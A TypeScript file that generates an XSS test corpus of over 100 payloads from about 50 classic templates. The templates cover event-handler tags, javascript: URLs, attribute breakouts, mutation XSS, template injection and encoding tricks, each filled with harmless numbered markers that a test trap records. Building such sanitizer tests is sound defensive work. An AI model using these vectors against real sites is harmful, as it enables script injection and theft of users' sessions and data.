/**
 * The XSS corpus of the attack suite: classic vectors (tags with event handlers, javascript: URLs,
 * broken-out attributes, mutation XSS, template injection, encodings and case tricks), each with a
 * numbered call the page trap records (xss-trap.ts). A payload "runs" when its number shows up.
 */
const TEMPLATES = [
  '<script>{js}</script>',
  '<img src=x onerror={js}>',
  '<svg onload={js}>',
  '<svg/onload={js}>',
  '<body onload={js}>',
  '<iframe src="javascript:{js}">',
  '<a href="javascript:{js}">x</a>',
  '"><script>{js}</script>',
  "'><img src=x onerror={js}>",
  '<details open ontoggle={js}>',
  '<input autofocus onfocus={js}>',
  '<video><source onerror={js}>',
  '<audio src=x onerror={js}>',
  '<marquee onstart={js}>',
  '<object data="javascript:{js}">',
  '<embed src="javascript:{js}">',
  '<form><button formaction=javascript:{js}>x',
  '<IMG SRC=x OnErRoR={js}>',
  '<img/src=x/onerror={js}>',
  '<scr<script>ipt>{js}</script>',
  '<svg><script>{js}</script>',
  '<textarea autofocus onfocus={js}>',
  '<select autofocus onfocus={js}>',
  '<svg><animate onbegin={js} attributeName=x dur=1s>',
  '<svg><set onbegin={js} attributeName=x to=1>',
  '<iframe srcdoc="<script>parent.{js}</script>">',
  '<meta http-equiv=refresh content="0;javascript:{js}">',
  "{{constructor.constructor('{js}')()}}",
  '<noscript><p title="</noscript><img src=x onerror={js}>">',
  '<svg><style><img src=x onerror={js}></style>',
  '<math><mtext><table><mglyph><style><img src=x onerror={js}>',
  '<a href="jAvAsCrIpT:{js}">x</a>',
  '<a href="&#106;avascript:{js}">x</a>',
  '<img src=x onerror="{js}">',
  '" onmouseover="{js}" autofocus onfocus="{js}',
  "' autofocus onfocus='{js}",
  '<div style="width:expression({js})">',
  '<style>@import "javascript:{js}";</style>',
  '<img src=x onerror=setTimeout`{js}`>',
  '<x contenteditable onfocus={js} autofocus>',
  '<image src=x onerror={js}>',
  '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a>',
  '<template><img src=x onerror={js}></template>',
  '</title><img src=x onerror={js}>',
  '</textarea><img src=x onerror={js}>',
  '<!--><img src=x onerror={js}>-->',
  '<![CDATA[<img src=x onerror={js}>]]>',
  '<table background="javascript:{js}">',
  '<isindex type=image src=x onerror={js}>',
  '<body onpageshow={js}>',
  '<object><param name=src value=javascript:{js}></object>',
  '<img src=x onerror=eval(atob(`{b64}`))>',
] as const;

export interface XssPayload {
  id: number;
  text: string;
}

/** `X(id)` and `alert(id)` forms of every template, then fetch and console forms of a few: over 100 payloads. */
export function xssCorpus(): XssPayload[] {
  const payloads: XssPayload[] = [];
  const add = (template: string, js: (id: number) => string) => {
    const id = payloads.length + 1;
    const code = js(id);
    payloads.push({
      id,
      text: template.replaceAll('{js}', code).replaceAll('{b64}', Buffer.from(code).toString('base64')),
    });
  };
  for (const template of TEMPLATES) add(template, (id) => `X(${id})`);
  for (const template of TEMPLATES) add(template, (id) => `alert(${id})`);
  for (const template of TEMPLATES.slice(0, 10)) add(template, (id) => `fetch('/xss-${id}')`);
  for (const template of TEMPLATES.slice(0, 10)) add(template, (id) => `console.log('xss-${id}')`);
  return payloads;
}
